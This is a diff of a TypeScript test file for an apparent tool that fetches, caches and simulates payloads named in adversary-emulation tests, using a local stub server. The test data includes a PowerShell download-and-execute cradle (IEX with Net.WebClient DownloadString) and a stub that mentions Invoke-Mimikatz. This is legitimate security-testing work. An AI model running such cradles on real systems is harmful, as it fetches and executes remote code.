@@ -19,8 +19,10 @@ const requests: string[] = [];
 beforeAll(async () => {
   server = createServer((req, res) => {
     requests.push(req.url ?? '');
-    if (req.url === '/repo/abc123/Invoke-Thing.ps1') return void res.writeHead(200, { 'content-type': 'text/plain' }).end('function Invoke-Thing { "thing" }\nWrite-Host "Invoke-Mimikatz"\n');
-    if (req.url === '/repo/abc123/tool.exe') return void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from([0x4d, 0x5a, 0x00, 0x01]));
+    if (req.url === '/repo/abc123/Invoke-Thing.ps1')
+      return void res.writeHead(200, { 'content-type': 'text/plain' }).end('function Invoke-Thing { "thing" }\nWrite-Host "Invoke-Mimikatz"\n');
+    if (req.url === '/repo/abc123/tool.exe')
+      return void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from([0x4d, 0x5a, 0x00, 0x01]));
     if (req.url === '/page') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!DOCTYPE html><html></html>');
     res.writeHead(404).end();
   });
@@ -61,9 +63,14 @@ function atomics(): string {
 
 describe('atlas payloads fetch', () => {
   it('lists every URL a test names, with argument defaults substituted', async () => {
-    expect(await atomicsUrls(atomics())).toEqual([`${base}/missing.ps1`, `${base}/page`, `${base}/repo/abc123/Invoke-Thing.ps1`, `${base}/repo/abc123/tool.exe`]);
+    expect(await atomicsUrls(atomics())).toEqual([
+      `${base}/missing.ps1`,
+      `${base}/page`,
+      `${base}/repo/abc123/Invoke-Thing.ps1`,
+      `${base}/repo/abc123/tool.exe`,
+    ]);
   });
-  it('reads the tests with the build\'s loader: a default written 1.10 stays 1.10 (js-yaml\'s JSON schema made it 1.1)', async () => {
+  it("reads the tests with the build's loader: a default written 1.10 stays 1.10 (js-yaml's JSON schema made it 1.1)", async () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'atlas-fetch-atomics-'));
     mkdirSync(path.join(dir, 'T1105'));
     writeFileSync(
@@ -99,10 +106,19 @@ describe('atlas payloads fetch', () => {
     const index = JSON.parse(readFileSync(path.join(out, 'index.json'), 'utf8'));
     const host = base.replace('http://', '').replace(':', '_');
     expect(index[`${base}/repo/abc123/Invoke-Thing.ps1`]).toMatchObject({ file: `${host}/repo/abc123/Invoke-Thing.ps1`, bytes: 63 });
-    expect(index.skipped).toEqual([{ url: `${base}/page`, why: 'a web page' }, { url: `${base}/repo/abc123/tool.exe`, why: 'binary content' }]);
+    expect(index.skipped).toEqual([
+      { url: `${base}/page`, why: 'a web page' },
+      { url: `${base}/repo/abc123/tool.exe`, why: 'binary content' },
+    ]);
     expect(index.unresolved).toEqual([{ url: `${base}/missing.ps1`, why: 'HTTP 404' }]);
     const run = simulateTest(
-      { guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${base}/repo/abc123/Invoke-Thing.ps1')` },
+      {
+        guid: 'g',
+        platforms: ['windows'],
+        executor: 'powershell',
+        elevationRequired: false,
+        commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${base}/repo/abc123/Invoke-Thing.ps1')`,
+      },
       PayloadStore.open(out, undefined),
     );
     expect(run.events.some((e) => e.source && String(e.fields['ScriptBlockText']).includes('Invoke-Mimikatz'))).toBe(true);
